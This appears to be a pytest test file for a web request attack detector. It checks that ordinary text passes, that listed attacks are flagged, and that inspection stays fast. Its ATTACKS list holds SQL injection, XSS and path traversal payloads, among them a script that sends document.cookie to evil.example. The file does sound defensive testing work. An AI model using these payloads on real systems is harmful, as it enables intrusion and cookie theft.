"""What ``detection="block"`` refuses: attacks, and not what people write about them."""

import importlib.util
import json
import time
from pathlib import Path
from urllib.parse import quote, quote_plus, urlencode

import pytest

from eldonia_telemetry.security import certainty
from eldonia_telemetry.security.body import fields
from eldonia_telemetry.security.detection import inspect, inspect_fields


def load(name: str):
    spec = importlib.util.spec_from_file_location(name, Path(__file__).with_name(f"{name}.py"))
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


ORDINARY = [*load("ordinary").ORDINARY, *load("corpus").NORMAL, *load("test_detection").HARMLESS]
_known = load("test_detection")
ATTACKS = [
    *(_known.SQL + _known.XSS + _known.TRAVERSAL),
    *("＜script＞alert(1)＜/script＞", "＜img src=x onerror=alert(1)＞", "＇ OR ＇1＇=＇1"),
    *("..;/..;/manager/html", "/api/..;/admin", "....//....//etc/passwd", "../../../../windows/win.ini", "/etc/passwd"),
    *("<svg onload=alert(1)>", "<details open ontoggle=alert(1)>", "<iframe src=javascript:alert(1)>"),
    *("<script>fetch('//evil.example/'+document.cookie)</script>", "<script src=http://evil.example/x.js></script>"),
    *(
        "'><script>alert(1)</script>",
        '" onmouseover="alert(1)',
        "<object data=javascript:alert(1)>",
        '" onclick="alert(1)',
    ),
    *("<a href=javascript:alert(1)>click me</a>", "see <a href='javascript:alert(1)'>my page</a>"),
    *(
        "1' or 1=1 limit 1 -- -",
        "' union select username, password from users-- -",
        "admin' or '1'='1'#",
        "1 AND SLEEP(5)",
    ),
    *("'; exec xp_cmdshell('dir')--", "x'; DROP TABLE users; --", "' AND 1=2 UNION SELECT null,version()--"),
    *(
        "file:///etc/passwd",
        "<script>alert(1)</script>?",
        "<marquee onstart=alert(1)>",
        "' or sleep(5)#",
        "1;DROP TABLE users",
    ),
    *("nice shirt' OR '1'='1", "猫' OR '1'='1", "-1' UNION SELECT 1,2,3-- "),
]
MISSED = {"<body onload = 'x()'>", "c:\\windows\\system32"}
"""Recorded only: the first is in every old page, the second in every question about Windows."""


def findings(text: str):
    return [
        found
        for found in (
            inspect("/search", b"q=" + quote_plus(text).encode()),
            inspect_fields(fields(b"application/x-www-form-urlencoded", urlencode({"text": text}).encode())),
            inspect_fields(fields(b"application/json", json.dumps({"comment": {"text": text}}).encode())),
        )
        if found is not None
    ]


@pytest.mark.parametrize("text", ORDINARY)
def test_what_people_write_is_not_refused(text):
    assert [found for found in findings(text) if found.certain] == []


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_are(text):
    found = findings(text)
    assert len(found) == 3
    assert all(one.certain for one in found) is (text not in MISSED)
    twice = inspect("/search", b"q=" + quote(quote(text, safe=""), safe="").encode())
    assert twice is not None
    assert twice.certain is (text not in MISSED)


def test_there_is_much_of_both():
    assert len(ORDINARY) > 300
    assert len(ATTACKS) >= 95
    assert sum(map(bool, map(findings, ORDINARY))) > 60  # much of it looks like an attack and is recorded


def test_a_certain_finding_is_not_hidden_behind_an_uncertain_one():
    lesson, attack = "<script> タグの使い方", "' OR '1'='1"
    assert inspect_fields([("title", lesson), ("name", attack)]).certain
    assert inspect("/s", urlencode({"title": lesson, "name": attack}).encode()).certain
    assert inspect("/works/1' or '1'='1", urlencode({"title": lesson}).encode()).certain
    assert not inspect_fields([("title", lesson)]).certain


@pytest.mark.parametrize("name", ["file", "path", "doc.template", "lang", "download"])
def test_what_names_a_file_is_judged_as_one(name):
    assert inspect_fields([(name, "../../secret.txt")]).certain
    assert not inspect_fields([("comment", "../../secret.txt")]).certain


@pytest.mark.parametrize(
    ("text", "number"),
    [
        ("", 0),
        ("hello there, you two", 4),
        ("SELECT name FROM users", 2),
        ("f(x) user_id a=b <b>", 0),
        ("タグの使い方", 3),
        ("Почему это опасно?", 3),
        ("لماذا هذا خطر", 3),
        ("O'Brien's", 0),
    ],
)
def test_words(text, number):
    assert abs(certainty.words(text) - number) <= (1 if text == "O'Brien's" else 0)


@pytest.mark.parametrize(
    "part",
    [
        *(
            "<script",
            "<script>",
            "<script><",
            "</script",
            "<a ",
            "<a onclick=",
            "<a onclick='",
            '<a onclick="',
            "{{",
            "{{a",
        ),
        *(
            "<style",
            "a ",
            "ab ",
            "ab'c ",
            "'",
            "' ",
            "--",
            "on",
            " onx=",
            "<x onabc=a",
            "<iframe src",
            "<script src=",
            "あ",
        ),
        *(
            "javascript:",
            "j a v a s",
            "document",
            "document.cookie",
            "..;/",
            "../",
            "etc/",
            "\x00",
            "c:\\",
            "＜",
            "＇ ",
        ),
    ],
)
@pytest.mark.parametrize(
    "around", ["{}", "' or '1'='1 {}", "<script>{}", "<img src=x onerror=alert(1)>{}", "../../etc/{}"]
)
def test_no_text_takes_long(part, around):
    text = around.format(part * (8000 // len(part)))
    began = time.process_time()
    certainty.words(text)
    certainty.of_sql(text, 0, 10)
    certainty.of_xss(text)
    certainty.of_path(text, "field file")
    inspect("/", b"q=" + quote_plus(text).encode())
    inspect_fields([("text", text), ("short", text[:299])])
    assert time.process_time() - began < 0.25
